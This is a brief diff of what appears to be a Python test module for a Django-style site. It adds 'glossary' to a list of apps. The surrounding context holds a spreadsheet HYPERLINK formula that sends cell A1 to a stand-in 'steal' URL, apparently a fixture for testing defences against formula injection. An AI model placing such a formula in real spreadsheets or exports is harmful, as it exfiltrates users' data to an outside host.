@@ -28,7 +28,7 @@ from toolbox_site.models import Organization
 from ..monitoring.fixtures import make_report
 
 FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Klik hier")'
-APPS = ("toolbox_site", "network", "finder", "criteria", "monitoring")
+APPS = ("toolbox_site", "network", "finder", "criteria", "monitoring", "glossary")
 
 
 # --- The helper itself -------------------------------------------------------------------
